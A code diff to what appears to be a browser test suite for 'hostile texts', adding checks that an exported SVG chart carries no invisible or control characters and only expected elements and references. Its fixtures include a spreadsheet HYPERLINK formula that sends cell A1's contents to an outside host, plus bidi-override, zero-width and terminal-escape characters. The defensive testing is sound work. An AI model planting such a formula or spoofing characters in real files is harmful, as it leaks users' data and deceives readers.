@@ -29,6 +29,7 @@ const MARKUP = [
 
 const UNSEEN =
   "\u202Eesrever\u202C \u2066kept\u2069 \u200Bzero\uFEFF width \u0000\u0007\u001B[31mred\u001B[0m\u0085\u2028";
+const UNSEEN_CHARACTERS = /[\u202A-\u202E\u2066-\u2069\u200B\uFEFF\u0000-\u0008\u001B]/;
 const FORMULA = `=HYPERLINK("${ELSEWHERE}?x="&A1,"go")`;
 const EVERYTHING = `${FORMULA} ${MARKUP} ${UNSEEN}`;
 
@@ -286,6 +287,21 @@ describe("hostile texts", { skip }, () => {
     assert.deepEqual(reportDid, []);
     const [image] = await exported(page, /^Image/);
     assert.equal(image.content.subarray(1, 4).toString(), "PNG");
+    const [svg] = await exported(page, /^SVG/);
+    assert.doesNotMatch(svg.content.toString(), UNSEEN_CHARACTERS);
+    const chart = await page.evaluate((xml) => {
+      const parsed = new DOMParser().parseFromString(xml, "image/svg+xml");
+      const all = [...parsed.querySelectorAll("*")];
+      const references = all.flatMap((one) => [...one.attributes].filter(({ value }) => /url\(|:/.test(value)));
+      return {
+        elements: [...new Set(all.map(({ localName }) => localName))].sort(),
+        references: [...new Set(references.map(({ value }) => value))].sort(),
+      };
+    }, svg.content.toString());
+    assert.deepEqual(chart, {
+      elements: ["defs", "g", "path", "pattern", "rect", "svg", "text", "title"],
+      references: ["http://www.w3.org/2000/svg", "url(#failed)"],
+    });
     await assertHarmless(page, did, "exports");
     await site.done(page);
   });
